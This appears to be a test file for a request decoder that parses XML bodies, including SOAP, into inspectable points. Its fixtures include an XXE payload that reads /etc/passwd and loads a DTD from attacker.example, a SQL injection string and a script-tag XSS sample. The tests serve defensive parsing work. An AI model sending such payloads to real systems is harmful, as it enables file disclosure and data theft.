import assert from 'node:assert/strict';
import { test } from 'node:test';
import { decode, at, find, codes } from './helpers/decode.js';

const XML: [string, string] = ['content-type', 'text/xml; charset=utf-8'];

const SOAP = `<?xml version="1.0" encoding="utf-8"?>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:m="http://www.example.org/stock">
  <soap:Header><m:Auth token="abc&amp;def"/></soap:Header>
  <soap:Body>
    <m:GetStockPrice>
      <m:StockName>IBM' OR '1'='1</m:StockName>
      <!-- a comment <m:Hidden>no</m:Hidden> -->
      <m:Note><![CDATA[<script>alert(1)</script>]]></m:Note>
    </m:GetStockPrice>
  </soap:Body>
</soap:Envelope>`;

test('SOAP: elements and attributes by path, references decoded, comments skipped, CDATA raw', () => {
  const r = decode('/ws/stock', [XML], SOAP);
  assert.deepEqual(at(r, 'body.xml./soap:Envelope/soap:Body/m:GetStockPrice/m:StockName'), ["IBM' OR '1'='1"]);
  assert.deepEqual(at(r, 'body.xml./soap:Envelope/soap:Header/m:Auth/@token'), ['abc&def']);
  assert.deepEqual(at(r, 'body.xml./soap:Envelope/soap:Header/m:Auth/@token', 'key'), ['token']);
  assert.deepEqual(at(r, 'body.xml./soap:Envelope/soap:Body/m:GetStockPrice/m:Note'), ['<script>alert(1)</script>']);
  assert.ok(!r.points.some((p) => p.value === 'no'));
  assert.deepEqual(find(r, 'body.xml./soap:Envelope/soap:Body/m:GetStockPrice/m:StockName', "IBM' OR '1'='1")?.chain, [
    'xml',
  ]);
  assert.deepEqual(codes(r), []);
});

test('XXE: DOCTYPE and ENTITY declarations are points; entities are never expanded', () => {
  const doc = `<?xml version="1.0"?>
<!DOCTYPE data [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  <!ENTITY file SYSTEM "file:///etc/passwd">
  %remote;
]>
<data><item>&file;</item></data>`;
  const r = decode('/import', [['content-type', 'application/xml']], doc);
  assert.match(at(r, 'body.xml.!doctype')[0] ?? '', /^<!DOCTYPE data \[/);
  assert.deepEqual(at(r, 'body.xml.!entity.file'), ['SYSTEM "file:///etc/passwd"']);
  assert.deepEqual(at(r, 'body.xml.!entity.%remote'), ['SYSTEM "http://attacker.example/evil.dtd"']);
  assert.deepEqual(at(r, 'body.xml./data/item'), ['&file;']);
  assert.ok(codes(r).includes('xml_entities_declared'));
});

test('external DTD without internal subset is a doctype point', () => {
  const r = decode('/x', [XML], '<!DOCTYPE foo SYSTEM "http://x.example/a.dtd"><foo>1</foo>');
  assert.deepEqual(at(r, 'body.xml.!doctype'), ['<!DOCTYPE foo SYSTEM "http://x.example/a.dtd">']);
  assert.deepEqual(at(r, 'body.xml./foo'), ['1']);
});

test('processing instructions other than the XML declaration are points', () => {
  const r = decode('/x', [XML], '<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><a/>');
  assert.deepEqual(at(r, 'body.xml.?xml-stylesheet'), ['type="text/xsl" href="http://evil.example/x.xsl"']);
});

test('depth past maxDepth is flagged; unclosed and stray tags are flagged, never thrown', () => {
  const deep = decode('/x', [XML], `${'<a>'.repeat(10)}x${'</a>'.repeat(10)}<b>y</b>`, { maxDepth: 4 });
  assert.ok(codes(deep).includes('xml_depth'));
  assert.deepEqual(at(deep, 'body.xml./b'), ['y']);
  const bad = decode('/x', [XML], '<a><b>1</c></a><d attr="x');
  assert.ok(codes(bad).includes('xml_invalid'));
  assert.deepEqual(at(bad, 'body.xml./a/b'), ['1']);
});

test('XML sent without a content type is sniffed', () => {
  const r = decode('/x', [], '<user><name>bob</name></user>');
  assert.deepEqual(at(r, 'body.xml./user/name'), ['bob']);
});
